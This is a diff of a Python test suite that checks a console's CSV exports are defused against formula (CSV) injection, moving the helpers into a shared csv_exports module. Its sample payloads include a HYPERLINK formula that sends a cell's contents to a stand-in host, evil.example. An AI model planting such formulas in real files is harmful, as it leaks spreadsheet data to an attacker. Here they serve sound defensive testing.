@@ -1,6 +1,6 @@
 """Every CSV the console writes is safe to open in a spreadsheet: a cell that would start a formula (=, +, -, @, a
 tab or a carriage return first) is written with a leading ' so it shows as text (CSV injection). One helper,
-campaign_export.write_csv, writes them all; the last test keeps it that way."""
+csv_exports.write_csv, writes them all; the last test keeps it that way."""
 
 from __future__ import annotations
 
@@ -14,6 +14,7 @@ from sqlmodel import Session
 
 from app.campaigns import export as campaign_export
 from app.campaigns import service as campaigns
+from app.kernel import csv_exports
 from app.kernel.config import REPO_ROOT
 from app.reports import jobs as report_jobs
 from app.reports import results as report_results
@@ -24,7 +25,7 @@ from app.warehouse.base import FactRow
 from tests.helpers import actor_of, wait_for_run
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1", "-1+2", "@SUM(1)", "\t=1+1", "\r=1+1"]
-DANGEROUS = campaign_export.FORMULA_STARTS
+DANGEROUS = csv_exports.FORMULA_STARTS
 DAY = date.today() - timedelta(days=2)
 BASE = {"objective": "traffic", "starts_at": "2026-12-01", "time_zone": "UTC", "total_budget": "1000",
         "bid_strategy": "cpm", "bid": "2"}
@@ -36,8 +37,8 @@ def _cells(path: Path) -> list[str]:
 
 
 def _exported(link: dict[str, str], actor: object) -> list[str]:
-    token = link["csv_download_url"].removeprefix(campaign_export.URL_PREFIX)
-    return _cells(campaign_export.open_export(token=token, actor=actor)[0])  # type: ignore[arg-type]
+    token = link["csv_download_url"].removeprefix(csv_exports.URL_PREFIX)
+    return _cells(csv_exports.open_export(token=token, actor=actor)[0])  # type: ignore[arg-type]
 
 
 def _assert_inert(cells: list[str], expected: list[str]) -> None:
@@ -96,9 +97,9 @@ def test_every_export_neutralises_formulas(db: Session, demo_ids: dict[str, int]
 
 def test_safe_cell():
     for payload in (*PAYLOADS, "-", "=", "@"):
-        assert campaign_export.safe_cell(payload) == "'" + payload
+        assert csv_exports.safe_cell(payload) == "'" + payload
     for harmless in ("Spring Sale", "100", "1.5", "", None, "a=b", "'quoted", "a - b"):
-        assert campaign_export.safe_cell(harmless) == ("" if harmless is None else harmless)
+        assert csv_exports.safe_cell(harmless) == ("" if harmless is None else harmless)
 
 
 # Issue 21: blanks before a formula start, and a formula on a later line, passed; numbers became text ('-5).
@@ -108,21 +109,21 @@ HIDDEN = [" =1+1", "\u00a0@SUM(A1)", "note\n=HYPERLINK(\"http://evil.example\")"
 def test_the_csv_writer_keeps_numbers_and_defuses_every_cell_a_spreadsheet_would_evaluate(tmp_path: Path) -> None:
     numbers = [-5, Decimal("-12.50"), 0, 2.25, 1234567]
     path = tmp_path / "out.csv"
-    campaign_export.write_csv(path, ["=title", *(f"c{n}" for n in range(len(numbers) + len(HIDDEN)))],
-                              [[*numbers, *HIDDEN, "Spring Sale"]])
+    csv_exports.write_csv(path, ["=title", *(f"c{n}" for n in range(len(numbers) + len(HIDDEN)))],
+                          [[*numbers, *HIDDEN, "Spring Sale"]])
     with path.open(newline="", encoding="utf-8-sig") as source:
         header, row = list(csv.reader(source))
     assert header[0] == "'=title"
     assert row[:len(numbers)] == ["-5", "-12.50", "0", "2.25", "1234567"], "numbers are written as numbers"
     assert row[len(numbers):] == ["'" + text for text in HIDDEN] + ["Spring Sale"]
     for text in HIDDEN:
-        assert campaign_export.unguarded_cell(campaign_export.safe_cell(text)) == text, "reading back undoes it"
+        assert csv_exports.unguarded_cell(csv_exports.safe_cell(text)) == text, "reading back undoes it"
 
 
 def test_one_helper_writes_every_csv():
     """A new export written with its own csv.writer would skip the guard: only the shared writer (and the
     statistics store's internal bulk-load files, never downloaded) may make one."""
-    allowed = {"app/campaigns/export.py", "app/warehouse/duckdb_store.py"}
+    allowed = {"app/kernel/csv_exports.py", "app/warehouse/duckdb_store.py"}
     writers = {str(path.relative_to(REPO_ROOT)) for folder in ("app", "components")
                for path in (REPO_ROOT / folder).rglob("*.py")
                if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))}
